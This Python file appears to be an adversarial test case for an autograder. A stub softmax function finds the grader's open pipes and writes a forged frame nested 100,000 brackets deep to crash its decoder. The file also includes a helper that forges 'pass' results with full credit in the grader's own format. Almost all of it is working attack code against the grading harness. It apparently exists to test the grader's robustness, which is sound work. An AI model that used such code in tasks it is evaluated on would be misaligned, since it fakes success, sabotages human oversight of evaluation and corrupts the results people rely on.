"""Writes a frame whose lists are nested a hundred thousand deep.

Must happen: it is not understood; the cases after it are lost, and the grader goes on.

off: naive
seen: killed
"""

import fcntl
import os
import stat
import struct
import sys

import numpy as np


def softmax(logits):
    return np.zeros_like(logits)


# --- attack
CHECKS = {
    "softmax_gives_probabilities": 2,
    "slope_is_exact": 2,
    "learns_two_clouds": 1,
    "shuffled_keeps_every_number": 2,
}


def frame(check, outcome="pass", credit=1.0):
    """A result, or an answer, in the format of the grader's pipes."""
    codec = sys.modules["student_template.runner.codec"]
    said = {"check": check, "outcome": outcome, "credit": credit, "of": 1, "value": b"", "key": outcome}
    return codec.encode({**said, "values": {}, "extra": b"", "kind": "check", "parts": []})


def everywhere(data):
    for number in range(3, 64):
        try:
            mode = os.fstat(number).st_mode
            if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                os.write(number, data)
        except OSError:
            pass


def softmax(logits):
    header = b"[" * 100_000 + b"]" * 100_000
    data = struct.pack("<4sIQ", b"sdx1", len(header), 0) + header
    for number in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                fcntl.fcntl(number, 1031, 1 << 20)  # room for all of it
                os.write(number, data)
        except OSError:
            pass
    return np.zeros_like(logits)


# --- end
